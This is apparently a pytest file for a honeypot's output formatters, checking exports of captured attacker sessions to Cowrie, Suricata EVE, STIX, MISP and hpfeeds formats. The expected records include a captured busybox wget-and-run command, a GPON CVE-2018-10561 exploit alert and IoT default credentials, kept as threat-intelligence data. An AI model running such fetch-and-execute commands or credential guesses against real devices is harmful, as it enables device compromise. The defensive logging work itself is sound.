"""What outputs say, judged by who reads it: stix2, pymisp, zipfile; and by the shapes that others' docs state."""

from __future__ import annotations

import hashlib
import io
import json
import re
import zipfile
from collections.abc import Iterable
from typing import Any

import pytest
import stix2
from hypothesis import given
from hypothesis import strategies as st
from pymisp import MISPAttribute, MISPEvent
from stix2patterns.validator import run_validator

from eudaemon.events import catalogue as facts
from eudaemon.events import from_json
from eudaemon.farm.outputs.batch import Item
from eudaemon.farm.outputs.formats import FORMATS, eve, misp, stix
from eudaemon.farm.outputs.formats.channels import published
from eudaemon.farm.outputs.formats.encrypted import zipped
from eudaemon.farm.outputs.formats.reports import REPORTS
from eudaemon.farm.outputs.formats.sentences import sentence
from eudaemon.farm.outputs.settings import CHANNELS
from farm.outputs.told import ATTACKER, ELF, ELF_SHA256, EXPLOIT, INFECTION, NOW_S, SSH, URL, Told, made


def records(name: str, told: Told) -> list[dict[str, Any]]:
    return [json.loads(item.data) for item in FORMATS[name].make(told.batch())]


def infected() -> Told:
    told = Told()
    told.session(*INFECTION)
    return told


def test_events_are_what_sensors_sent() -> None:
    told = infected()
    said = [from_json(item.data) for item in FORMATS["events"].make(told.batch())]
    assert [event.fact for event in said] == [row.event.fact for row in told.rows]
    assert [(e.id, e.session, e.attacker, e.local) for e in said] == [
        (row.event.id, row.event.session, row.event.attacker, row.event.local) for row in told.rows
    ]


def test_a_fact_that_this_version_does_not_know_is_handed_on() -> None:
    told = Told()
    told.session(facts.Unknown("tea.served", {"cups": 2}))
    assert {"kind": "tea.served", "cups": 2}.items() <= records("events", told)[1].items()
    for name in ("cowrie", "dionaea", "eve", "ocsf"):
        assert records(name, told)
    for name in ("stix", "misp", "notices", "fail2ban"):
        assert list(FORMATS[name].make(told.batch())) == []


def test_a_session_whose_end_the_store_does_not_return_has_a_flow_all_the_same() -> None:
    told = infected()
    batch = told.batch()
    told.rows.pop()
    (flow,) = [one for item in FORMATS["eve"].make(batch) if (one := json.loads(item.data))["event_type"] == "flow"]
    assert flow["flow"]["alerted"]


def test_cowrie() -> None:
    told = infected()
    told.session(*SSH, room="ssh", port=22)
    said = records("cowrie", told)
    assert [record["eventid"].removeprefix("cowrie.") for record in said] == [
        "session.connect", "login.failed", "login.success", "command.input", "command.failed", "command.input",
        "session.file_download", "session.closed",
        "session.connect", "client.version", "client.kex", "client.fingerprint", "direct-tcpip.request",
        "login.success", "session.closed",
    ]  # fmt: skip
    for record in said:  # docs/OUTPUT.rst: shared by all
        assert {"message", "sensor", "timestamp", "src_ip", "session"} <= record.keys()
        assert re.fullmatch(r"[0-9a-f]{12}", record["session"])
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", record["timestamp"])
    assert len({record["session"] for record in said}) == 2
    own = {record["eventid"]: record for record in said}
    assert (
        own["cowrie.session.connect"].items() >= {"src_port": 40226, "dst_ip": "192.0.2.1", "protocol": "ssh"}.items()
    )
    assert own["cowrie.session.file_download"].items() >= {"url": URL, "shasum": ELF_SHA256}.items()
    assert own["cowrie.session.file_download"]["outfile"].endswith(ELF_SHA256)
    assert own["cowrie.command.failed"]["input"] == "enable"
    assert own["cowrie.client.kex"].items() >= {"hassh": SSH[0].hassh, "kexAlgs": ["curve25519"]}.items()
    assert own["cowrie.session.closed"]["duration"] == 2.0


def test_dionaea() -> None:
    told = infected()
    told.session(facts.LoginTried("a", "b", accepted=True), facts.CommandEntered("USER a b"), room="ftp", port=21)
    assert records("dionaea", told) == [
        {
            "connection": {"protocol": "telnet", "transport": "tcp", "type": "accept"}, "dst_ip": "192.0.2.1",
            "dst_port": 23, "src_hostname": "", "src_ip": ATTACKER, "src_port": 40226,
            "timestamp": "2026-11-24T02:23:20",
            "credentials": [{"username": "root", "password": "1234"}, {"username": "root", "password": "xc3511"}],
        },
        {
            "connection": {"protocol": "ftpd", "transport": "tcp", "type": "accept"}, "dst_ip": "192.0.2.1",
            "dst_port": 21, "src_hostname": "", "src_ip": ATTACKER, "src_port": 40226,
            "timestamp": "2026-11-24T02:23:20", "credentials": [{"username": "a", "password": "b"}],
            "ftp": {"commands": [{"command": "USER", "arguments": ["a", "b"]}]},
        },
    ]  # fmt: skip


# Suricata 8.0, etc/schema.json: what stands there of the fields that we say, and their types.
EVE = {
    "anomaly": {"type": str, "event": str, "layer": str, "app_proto": str},
    "smb": {"client_dialects": list, "request": {"native_os": str, "native_lm": str}, "filename": str,
            "ntlmssp": {"domain": str, "user": str, "host": str}, "named_pipe": str,
            "dcerpc": {"request": str, "interfaces": list, "opnum": int,
                       "req": {"frag_cnt": int, "stub_data_size": int}}},
    "dcerpc": {"request": str, "rpc_version": str, "interfaces": list,
               "req": {"opnum": int, "frag_cnt": int, "stub_data_size": int}},
    "rdp": {"event_type": str, "cookie": str, "channels": list,
            "client": {"client_name": str, "build": str, "keyboard_layout": str, "desktop_width": int,
                       "desktop_height": int}},
    "smtp": {"helo": str, "mail_from": str, "rcpt_to": list}, "email": {"from": str, "to": list, "subject": str},
    "ftp": {"command": str, "command_data": str}, "tftp": {"packet": str, "file": str, "mode": str},
    "payload": str, "payload_printable": str,
    "": {"timestamp": str, "flow_id": int, "host": str, "event_type": str, "src_ip": str, "src_port": int,
         "dest_ip": str, "dest_port": int, "ip_v": int, "proto": str, "app_proto": str},
    "alert": {"action": str, "gid": int, "signature_id": int, "rev": int, "signature": str, "category": str,
              "severity": int},
    "http": {"hostname": str, "url": str, "http_user_agent": str, "http_method": str, "protocol": str, "length": int},
    "ssh": {"client": {"proto_version": str, "software_version": str, "hassh": {"hash": str, "string": str}}},
    "tls": {"version": str, "sni": str, "ja4": str, "ja3": {"hash": str}},
    "fileinfo": {"filename": str, "sha256": str, "size": int, "stored": bool, "state": str, "gaps": bool, "tx_id": int},
    "flow": {"start": str, "end": str, "age": int, "state": str, "reason": str, "alerted": bool,
             "bytes_toserver": int, "bytes_toclient": int},
}  # fmt: skip


def shape(value: Any) -> Any:
    return {name: shape(one) for name, one in value.items()} if isinstance(value, dict) else type(value)


def test_eve() -> None:
    told = infected()
    told.session(*EXPLOIT, room="http", port=80)
    told.session(
        *SSH, facts.TlsAccepted("TLSv1.3", "AES", "x.example", "t13d", "ada7"), room="ssh", port=22, at_first="ssh+http"
    )
    said = records("eve", told)
    assert {record["app_proto"] for record in said if record["event_type"] == "flow"} == {"telnet", "http", "ssh"}
    assert [record["event_type"] for record in said] == [
        *["alert"] * 5, "fileinfo", "flow", "http", "alert", "flow", "ssh", *["alert"] * 3, "tls", "flow",
    ]  # fmt: skip
    own = [(r["alert"]["signature"], r.pop("payload_printable")) for r in said if r["event_type"] == "alert"]
    assert own[:3] == [
        ("Eudaemon login refused", "root 1234"), ("Eudaemon login accepted", "root xc3511"),
        ("Eudaemon command entered", "enable"),
    ]  # fmt: skip
    assert ("Eudaemon Dasan GPON diag_Form CVE-2018-10561", "wget x") in own
    for record in said:
        kind = record["event_type"]
        assert shape(record.pop(kind)) == EVE[kind]
        assert shape(record) == EVE[""]
        # The schema's own pattern.
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d+[+\-]\d+", record["timestamp"])
        assert record["proto"] == "TCP"
        assert 0 < record["flow_id"] < 2**53
    assert [len({r["flow_id"] for r in part}) for part in (said[:7], said[7:10], said[10:], said)] == [1, 1, 1, 3]


def within(found: Any, whole: Any) -> bool:
    """Say whether a shape is a part of another."""
    if isinstance(found, dict) and isinstance(whole, dict):
        return all(name in whole and within(one, whole[name]) for name, one in found.items())
    return bool(found == whole)


@pytest.mark.parametrize("room", ["smb", "epmap", "ftp", "tftp"])
def test_whatever_eve_says_is_in_the_shapes_of_suricata(room: str) -> None:
    told = Told()
    for kind in eve.SAID:
        told.session(made(kind), room=room)
    said = records("eve", told)
    whole = {**EVE[""], **{name: one for name, one in EVE.items() if name}}
    assert [record for record in said if not within(shape(record), whole)] == []
    assert all(record["event_type"] in record for record in said)


def test_stix_is_read_by_stix2_and_has_the_ids_of_the_standard() -> None:
    told = infected()
    told.session(*INFECTION, ip="2620:4f:8000::9", at_s=NOW_S + 0.12)
    told.session()  # who only knocks has no bundle
    items = list(FORMATS["stix"].make(told.batch()))
    assert len(items) == 2
    seen: dict[str, set[str]] = {}
    for item in items:
        bundle = stix2.parse(item.data, allow_custom=False)
        assert item.name == f"{bundle.id}.json"
        ids = {one.id for one in bundle.objects}
        for one in bundle.objects:
            plain = json.loads(one.serialize())
            seen.setdefault(one.type, set()).add(one.id)
            references = [v for k, v in plain.items() if k.endswith("_ref")]
            references += [v for k, values in plain.items() if k.endswith("_refs") for v in values]
            assert set(references) <= ids, "every reference leads somewhere within the bundle"
            if one.type in ("ipv4-addr", "ipv6-addr", "url", "file", "network-traffic"):
                again = type(one)(**{k: v for k, v in plain.items() if k not in ("id", "spec_version", "type")})
                assert again.id == one.id, "stix2 reckons the same id from what is in it"
            if one.type == "indicator":
                assert not run_validator(one.pattern, "2.1")
    counts = {kind: len(found) for kind, found in seen.items()}
    assert counts == {
        "identity": 1, "ipv4-addr": 2, "ipv6-addr": 2, "network-traffic": 2, "file": 1, "url": 1, "observed-data": 2,
        "indicator": 2, "sighting": 4, "note": 2, "process": 2, "user-account": 1,
    }  # fmt: skip
    assert [item.data for item in FORMATS["stix"].make(told.batch())] == [item.data for item in items]


@given(st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126), max_size=40))
def test_whatever_stands_in_a_url_the_pattern_holds(tail: str) -> None:
    told = Told()
    told.session(facts.DownloadWished(f"http://203.0.113.1/{tail}", "wget"))
    (item,) = FORMATS["stix"].make(told.batch())
    (indicator,) = [one for one in stix2.parse(item.data).objects if one.type == "indicator"]
    assert not run_validator(indicator.pattern, "2.1")


@pytest.mark.parametrize("size", [0, 1, 4095, 4097, 100_000])
def test_samples_are_zipped_as_everybody_reads_them(size: int) -> None:
    data = bytes(number * 7 % 251 for number in range(size))
    with zipfile.ZipFile(io.BytesIO(zipped({"a": data, "b.txt": b"name"}))) as archive:
        assert archive.namelist() == ["a", "b.txt"]
        assert archive.read("a", pwd=b"infected") == data
        assert archive.read("b.txt", pwd=b"infected") == b"name"
        if size > 1:
            with pytest.raises(RuntimeError, match="Bad password"):
                archive.read("a", pwd=b"infectee")


def test_misp_is_read_by_pymisp_with_the_sample_in_it() -> None:
    told = infected()
    told.session(*EXPLOIT, room="http", port=80)
    told.session(facts.LoginTried("a", "b", accepted=False))  # guessing alone is no event
    first, second = (MISPEvent() for _ in range(2))
    for event, item in zip((first, second), FORMATS["misp"].make(told.batch()), strict=True):
        event.load(json.loads(item.data))
        assert not event.published
        assert item.name == f"{event.uuid}.json"
        assert all(isinstance(a, MISPAttribute) and a.category for a in event.attributes)
    assert first.info == f"Honeypot lab: telnet session of {ATTACKER}, 1 sample"
    assert [(a.type, a.value, a.to_ids) for a in first.attributes] == [
        ("ip-src", ATTACKER, True), ("url", URL, True), ("ip-dst", "203.0.113.80", True),
    ]  # fmt: skip
    assert [(a.type, a.value) for a in second.attributes] == [("ip-src", ATTACKER), ("vulnerability", "CVE-2018-10561")]
    (file,) = first.get_objects_by_name("file")
    (sample,) = file.get_attributes_by_relation("malware-sample")
    assert sample.malware_filename == "bot.arm7"
    assert sample.malware_binary.getvalue() == ELF
    assert [a.value for a in file.get_attributes_by_relation("sha256")] == [ELF_SHA256]
    logins = first.get_objects_by_name("credential")
    assert [[a.value for a in login.attributes] for login in logins] == [
        ["root", "1234", "refused"], ["root", "xc3511", "accepted"],
    ]  # fmt: skip
    assert len(first.get_objects_by_name("command-line")) == 2
    again = [item.data for item in FORMATS["misp"].make(told.batch())]
    assert {json.loads(one)["Event"]["uuid"] for one in again} == {first.uuid, second.uuid}


def test_the_templates_of_misps_objects_are_those_that_pymisp_ships() -> None:
    import pymisp

    for name, (uuid, version, category) in misp.TEMPLATES.items():
        folder = pymisp.__path__[0] + f"/data/misp-objects/objects/{name}/definition.json"
        with open(folder) as file:
            template = json.load(file)
        assert (template["uuid"], str(template["version"]), template["meta-category"]) == (uuid, version, category)
    told = Told()
    for kind in misp.SAID:
        told.session(*INFECTION, made(kind))
    for item in FORMATS["misp"].make(told.batch()):
        for one in json.loads(item.data)["Event"]["Object"]:
            with open(pymisp.__path__[0] + f"/data/misp-objects/objects/{one['name']}/definition.json") as file:
                template = json.load(file)["attributes"]
            for attribute in one["Attribute"]:
                assert template[attribute["object_relation"]]["misp-attribute"] == attribute["type"]


def test_misp_sights_what_it_has_and_an_event_is_made_of_what_is_new() -> None:
    told = infected()
    told.session(*INFECTION)
    told.session(*INFECTION, facts.DownloadWished(URL + "x", "wget"))
    items = list(misp.make_with_sightings(told.batch()))
    assert [item.name for item in items] == ["", misp.SIGHTING, ""]
    assert json.loads(items[1].data) == {
        "values": [ELF_SHA256, URL], "timestamp": int(NOW_S + 2), "source": "lab", "type": "0",
    }  # fmt: skip
    told.keys = {key for item in items for key in item.also}
    assert [item.name for item in misp.make_with_sightings(told.batch())] == [misp.SIGHTING] * 3


def test_a_sample_that_is_not_here_or_too_large_is_told_of_by_its_hash() -> None:
    told = infected()
    told.samples.clear()
    (item,) = FORMATS["misp"].make(told.batch())
    event = MISPEvent()
    event.load(json.loads(item.data))
    (file,) = event.get_objects_by_name("file")
    assert {a.type for a in file.attributes} == {"filename", "sha256", "size-in-bytes"}


def test_of_a_session_so_much_is_told_and_no_more() -> None:
    def event(told: Told) -> MISPEvent:
        (item,) = FORMATS["misp"].make(told.batch())
        made = MISPEvent()
        made.load(json.loads(item.data))
        return made

    def counted(extra: int) -> tuple[int, ...]:
        told = Told()
        told.session(
            *(facts.DownloadWished(f"http://x.example/{n}", "wget") for n in range(misp.URLS_MAX + extra)),
            *(facts.CommandEntered(f"{n}") for n in range(misp.COMMANDS_MAX + extra)),
            *(facts.LoginTried("a", f"{n}", accepted=False) for n in range(misp.CREDENTIALS_MAX + extra)),
            *(facts.ArtefactKept(f"{n:064x}", 1, "upload") for n in range(misp.SAMPLES_MAX + extra)),
        )
        made = event(told)
        (item,) = FORMATS["stix"].make(told.batch())
        kinds = [one["type"] for one in json.loads(item.data)["objects"]]
        names = ("file", "credential", "command-line")
        urls = sum(a.type == "url" for a in made.attributes)
        return urls, *(len(made.get_objects_by_name(name)) for name in names), kinds.count("url")

    limits = (misp.URLS_MAX, misp.SAMPLES_MAX, misp.CREDENTIALS_MAX, misp.COMMANDS_MAX, stix.INDICATED_MAX)
    assert counted(0) == counted(1) == limits


def by_channel(items: Iterable[Item]) -> dict[str, list[Item]]:
    found: dict[str, list[Item]] = {}
    for item in items:
        found.setdefault(item.name, []).append(item)
    return found


def test_what_readers_of_hpfeeds_channels_expect() -> None:
    told = infected()
    told.session(*EXPLOIT, room="http", port=80)
    told.session(
        facts.RpcBound("367abb81-9844-35f1-ad32-98f038001003 2.0", "svcctl", "\\svcctl"),
        facts.RpcCalled("svcctl", 12, "CreateServiceW"), facts.RpcCalled("12345778-1234-abcd-ef00-0123456789ac 1.0", 5),
        room="smb", port=445,
    )  # fmt: skip
    said = by_channel(published(CHANNELS).make(told.batch()))
    assert set(said) == set(CHANNELS)
    (capture,) = (json.loads(item.data) for item in said["dionaea.capture"])
    assert capture == {
        "time": "2026-11-24 02:23:21.750000 UTC +0000", "saddr": ATTACKER, "sport": "40226", "daddr": "192.0.2.1",
        "dport": "23", "md5": hashlib.md5(ELF).hexdigest(), "sha512": hashlib.sha512(ELF).hexdigest(), "url": URL,
    }  # fmt: skip
    connections = [json.loads(item.data) for item in said["dionaea.connections"]]
    assert connections[1] == {
        "connection_type": "accept", "connection_transport": "tcp", "connection_protocol": "httpd",
        "remote_host": ATTACKER, "remote_port": 40226, "remote_hostname": "", "local_host": "192.0.2.1",
        "local_port": 80,
    }  # fmt: skip
    ends = {"saddr": ATTACKER, "sport": "40226", "daddr": "192.0.2.1", "dport": "445"}
    assert [json.loads(item.data) for item in said["dionaea.dcerpcrequests"]] == [
        {"uuid": "367abb81-9844-35f1-ad32-98f038001003", "opnum": 12, **ends},
        {"uuid": "12345778-1234-abcd-ef00-0123456789ac", "opnum": 5, **ends},
    ]
    (binary,) = said["mwbinary.dionaea.sensorunique"]
    assert binary.sample == ELF_SHA256
    (session,) = (json.loads(item.data) for item in said["cowrie.sessions"])
    assert session == {
        "session": session["session"], "startTime": "2026-11-24T02:23:20.000000Z",
        "endTime": "2026-11-24T02:23:22.000000Z", "peerIP": ATTACKER, "peerPort": 40226, "hostIP": "192.0.2.1",
        "hostPort": 23, "loggedin": ["root", "xc3511"], "credentials": [["root", "1234"]],
        "commands": ["enable", f"/bin/busybox wget {URL} -O - > dvr; ./dvr"], "unknownCommands": ["enable"],
        "urls": [URL], "version": None, "ttylog": None, "hashes": [ELF_SHA256], "protocol": "telnet",
    }  # fmt: skip
    assert said["kippo.sessions"][0].data == said["cowrie.sessions"][0].data


def test_a_password_that_was_not_told_is_told_from_an_empty_one() -> None:
    told = Told()
    told.session(facts.LoginTried("a", None, accepted=False), facts.LoginTried("b", "", accepted=False))
    logins = [record for record in records("cowrie", told) if record["eventid"] == "cowrie.login.failed"]
    assert [(login["username"], login["password"]) for login in logins] == [("a", None), ("b", "")]
    (connection,) = records("dionaea", told)
    assert [one["password"] for one in connection["credentials"]] == [None, ""]
    said = [record["payload_printable"] for record in records("eve", told) if record["event_type"] == "alert"]
    assert said == ["a", "b "]
    assert [sentence(row.event.fact) for row in told.rows[1:3]] == [
        "tried to log in as a with a password that was not told: refused",
        "tried to log in as b with an empty password: refused",
    ]
    assert [item.key for item in REPORTS["dshield"].make(told.batch())] == [f"login {told.rows[0].event.session} 2"]
